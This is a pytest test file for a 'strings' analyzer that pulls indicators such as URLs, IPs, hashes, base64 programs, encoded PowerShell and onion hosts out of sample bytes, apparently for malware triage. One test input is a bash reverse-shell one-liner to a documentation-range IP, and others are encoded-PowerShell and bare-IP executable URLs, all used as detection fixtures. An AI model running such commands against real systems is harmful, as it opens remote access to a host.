"""What the analyzer ``strings`` reads out of bytes."""

from __future__ import annotations

import base64
import io
import random
import re
from pathlib import Path

import jsonschema
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from workers import Analysis, Sample
from workers.analyzers.strings import anchors
from workers.analyzers.strings import scan as strings_scan
from workers.analyzers.strings.analyzer import HIGHEST_SCORE, strings
from workers.analyzers.strings.indicators import LIST_LIMIT, Indicators
from workers.analyzers.strings.scan import Scan


@pytest.fixture
def analyze(tmp_path: Path):
    def run(data: bytes) -> Analysis:
        path = tmp_path / "sample"
        path.write_bytes(data)
        analysis = strings(Sample(path=path, sha256="0" * 64, size=len(data)))
        jsonschema.validate(analysis.result, strings.schema)
        return analysis

    return run


def kinds(analysis: Analysis) -> set[str]:
    return {finding["kind"] for finding in analysis.result["findings"]}


def test_urls_and_their_hosts_are_listed_and_do_not_score(analyze):
    analysis = analyze(b"see https://www.example.com/a?b=1 and http://example.org.")

    assert analysis.score == -1
    assert analysis.result["urls"] == [
        {"url": "https://www.example.com/a?b=1", "host": "www.example.com"},
        {"url": "http://example.org", "host": "example.org"},
    ]
    assert "url" in kinds(analysis)


def test_wide_strings_are_read_like_narrow_ones(analyze):
    analysis = analyze(b"\x90" * 7 + "https://wide.example/x".encode("utf-16-le"))

    assert analysis.result["hosts"] == ["wide.example"]
    assert analysis.result["strings"]["utf16le"]["longest"] == 22


def test_addresses_are_valid_and_say_where_they_belong(analyze):
    analysis = analyze(b"8.8.8.8 10.0.0.1 999.1.1.1 1.2.3.4.5 2001:db8::1 12:34:56")

    assert analysis.result["ipv4"] == [
        {"address": "8.8.8.8", "scope": "global"},
        {"address": "10.0.0.1", "scope": "private"},
    ]
    assert analysis.result["ipv6"] == [{"address": "2001:db8::1", "scope": "private"}]


def test_emails_and_hashes_are_listed_by_kind(analyze):
    analysis = analyze(b"mail a.b+c@mail.example.org " + b"0A" * 16 + b" " + b"1b" * 32)

    assert analysis.result["emails"] == ["a.b+c@mail.example.org"]
    assert analysis.result["hashes"] == {
        "md5": ["0a" * 16],
        "sha1": [],
        "sha256": ["1b" * 32],
    }


def test_a_program_in_base64_scores_and_says_why(analyze):
    program = b"MZ\x90\x00" + random.Random(1).randbytes(60)
    analysis = analyze(b"x = '" + base64.b64encode(program) + b"'")

    assert analysis.result["base64"] == [{"characters": 88, "content": "pe"}]
    assert analysis.score == 25
    assert analysis.result["reasons"][0]["reason"] == "Base64 data decodes to a program"


@pytest.mark.parametrize("option", ["-e", "-enc", "-EncodedCommand", "-eNco"])
def test_an_encoded_powershell_command_is_recognised(analyze, option: str):
    command = base64.b64encode("Write-Output 'hello'".encode("utf-16-le")).decode()

    analysis = analyze(f"powershell.exe {option} {command}".encode())

    assert "encoded_powershell" in kinds(analysis)
    assert analysis.score == 25


def test_tor_services_and_bare_addresses_in_urls_are_reasons(analyze):
    onion = b"http://" + b"a" * 56 + b".onion/"

    analysis = analyze(onion + b" http://8.8.8.8/x.exe")

    assert kinds(analysis) >= {"onion_host", "address_url", "program_url"}
    assert analysis.score == HIGHEST_SCORE
    assert "capped" in analysis.result["summary"]


def test_random_bytes_show_their_entropy(analyze):
    analysis = analyze(random.Random(2).randbytes(100_000))

    assert analysis.result["entropy"]["overall"] > 7.9
    assert "high_entropy" in kinds(analysis)


def test_the_highest_block_is_where_the_random_bytes_are(analyze):
    noise = random.Random(3).randbytes(strings_scan.BLOCK_BYTES)

    analysis = analyze(bytes(strings_scan.BLOCK_BYTES * 2) + noise)

    offset = analysis.result["entropy"]["highest_block_offset"]
    assert offset == strings_scan.BLOCK_BYTES * 2


def test_nothing_is_found_in_nothing(analyze):
    analysis = analyze(b"")

    assert analysis.score == -1
    assert analysis.result["entropy"]["overall"] == 0
    assert analysis.result["findings"] == []


def test_more_indicators_than_the_list_holds_are_cut_and_said_to_be(analyze):
    urls = b"\n".join(b"http://h%d.example/" % number for number in range(5000))

    analysis = analyze(urls)

    assert len(analysis.result["urls"]) == LIST_LIMIT
    assert analysis.result["truncated"]["urls"] == "200 of more"
    assert "urls (200 of more)" in analysis.result["summary"]


#: What is looked for, as patterns that may begin anywhere: slow, and plain to read.
PLAIN_HOST = re.compile(
    rb"(?<![A-Za-z0-9.@_/-])(?:[A-Za-z0-9-]{1,63}\.){1,8}"
    rb"(?:com|net|org|info|biz|onion|ru|cn|top|xyz|club|online|site|example|test)"
    rb"(?![A-Za-z0-9_.-])",
    re.IGNORECASE,
)
PLAIN_URL = re.compile(
    rb"(?:https?|ftps?|hxxps?)://[^\s\x00-\x20\"'<>\\^`{|}\x7f-\xff]{3,2000}",
    re.IGNORECASE,
)
PLAIN_IPV4 = re.compile(rb"(?<![\d.])(?:\d{1,3}\.){3}\d{1,3}(?![\d.])")
PLAIN_DIGEST = re.compile(
    rb"(?<![0-9A-Za-z])(?:[0-9a-fA-F]{64}|[0-9a-fA-F]{40}|[0-9a-fA-F]{32})"
    rb"(?![0-9A-Za-z])"
)
PLAIN_BASE64 = re.compile(rb"(?<![A-Za-z0-9+/=])[A-Za-z0-9+/]{40,}={0,2}")
PIECES = st.sampled_from(
    [
        *(b"http", b"hXXps", b"ftp", b"://", b":", b".", b"/", b"@", b"-", b"_", b"="),
        *(b"==", b" ", b"\n", b"com", b"Example", b"onion", b"1", b"12", b"255", b"g"),
        *(b"ab12" * 8, b"0" * 8, b"Zz9+" * 10, b"x" * 70, b"1.2.3.4", b"\xff"),
    ]
)


@settings(max_examples=500)
@given(st.lists(PIECES, max_size=40).map(b"".join))
def test_searches_from_what_is_rare_find_what_plain_patterns_find(text: bytes):
    assert list(anchors.urls(text)) == PLAIN_URL.findall(text)
    assert [*dict.fromkeys(anchors.hosts(text))] == [
        *dict.fromkeys(PLAIN_HOST.findall(text))
    ]
    assert [found for _, found in anchors.ipv4(text)] == PLAIN_IPV4.findall(text)
    assert list(anchors.digests(text)) == PLAIN_DIGEST.findall(text)
    assert list(anchors.base64_runs(text)) == PLAIN_BASE64.findall(text)


def test_of_a_large_sample_every_fifth_byte_is_counted(analyze):
    noise = random.Random(4).randbytes(strings_scan.COUNTED_BYTES + 1)

    entropy = analyze(noise).result["entropy"]

    assert 7.97 < entropy["highest_block"] <= entropy["overall"] <= 8


def test_a_string_across_two_chunks_is_read_whole():
    chunk = strings_scan._CHUNK_BYTES
    url = b"https://crossing.example/path"
    data = b"\0" * (chunk - 10) + url + b"\0" * 100
    found, scan = Indicators(), Scan()

    for text in scan.texts(io.BytesIO(data)):
        found.collect(text)

    assert list(found.urls) == [url.decode()]
    assert scan.ascii.count == 1


def test_a_scan_ends_at_its_limit():
    scan = Scan(limit_bytes=1000)

    texts = list(scan.texts(io.BytesIO(b"x" * 5000)))

    assert scan.scanned_bytes == 1000
    assert texts == [b"x" * 1000]


def test_a_string_longer_than_any_buffer_is_read_in_pieces():
    scan = Scan()
    data = b"x" * (3 * strings_scan._CHUNK_BYTES)

    total = sum(len(text) for text in scan.texts(io.BytesIO(data)))

    assert total == len(data)


@given(st.binary(max_size=2000) | st.text(max_size=500).map(str.encode))
def test_no_bytes_upset_the_collector(data: bytes):
    found = Indicators()

    found.collect(data)

    assert len(found.urls) <= LIST_LIMIT


@pytest.mark.parametrize(
    "text",
    [
        b"Version 4.0.30.19",
        b"FileVersion\0\0\0001.2.3.4\0",
        b'assemblyIdentity version="6.0.1.2"',
        b"product v10.2.33.4 ready",
        b"System.Core, Version=4.0.0.0, Culture=neutral",
        b"subject 2.5.4.10 and key 2.5.29.15",
        b"Requires-Dist: thing (>=1.2.3.4)",
        b"thing==1.2.3.4",
        b"thing_1.2.3.4-1_amd64.deb",
        b"Safari/5.0 Chrome/9.0.6.9",
        b"see section 4.3.2.1, and clause 1.2.3.4",
        b"ver. 1.2.3.4",
        b"F\0i\0l\0e\0V\0e\0r\0s\0i\0o\0n\0\0\0\0\0001\0.\0002\0.\0003\0.\0004\0\0\0",
    ],
)
def test_a_dotted_version_is_no_address(analyze, text: bytes):
    assert analyze(text).result["ipv4"] == []


@pytest.mark.parametrize(
    "text",
    [
        *(b"connect 93.184.216.34 now", b"http://198.51.100.7/", b"server=10.1.2.3"),
        *(b"bash -i >& /dev/tcp/203.0.113.9/443", b"allow 198.51.100.7/24"),
    ],
)
def test_an_address_is_no_version(analyze, text: bytes):
    assert len(analyze(text).result["ipv4"]) == 1
